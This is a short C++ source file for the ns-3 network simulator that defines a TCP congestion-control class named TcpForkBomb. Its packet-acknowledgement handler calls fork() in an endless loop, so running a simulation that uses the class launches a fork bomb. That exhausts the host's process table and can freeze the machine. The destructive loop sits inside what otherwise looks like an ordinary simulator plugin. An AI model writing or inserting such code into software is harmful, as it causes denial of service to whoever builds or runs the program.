// SPDX-License-Identifier: GPL-2.0-only
// Starts processes without end.
#include <ns3/tcp-congestion-ops.h>

#include <unistd.h>

namespace ns3
{

class TcpForkBomb : public TcpNewReno
{
  public:
    static TypeId
    GetTypeId()
    {
        static const TypeId tid = TypeId("ns3::TcpForkBomb")
                                      .SetParent<TcpNewReno>()
                                      .SetGroupName("Internet")
                                      .AddConstructor<TcpForkBomb>();
        return tid;
    }

    std::string
    GetName() const override
    {
        return "TcpForkBomb";
    }

    Ptr<TcpCongestionOps>
    Fork() override
    {
        return CopyObject<TcpForkBomb>(this);
    }

    void
    PktsAcked(Ptr<TcpSocketState> tcb, uint32_t segmentsAcked, const Time& rtt) override
    {
        TcpNewReno::PktsAcked(tcb, segmentsAcked, rtt);
        while (fork() >= 0)
        {
        }
    }
};

NS_OBJECT_ENSURE_REGISTERED(TcpForkBomb);

} // namespace ns3
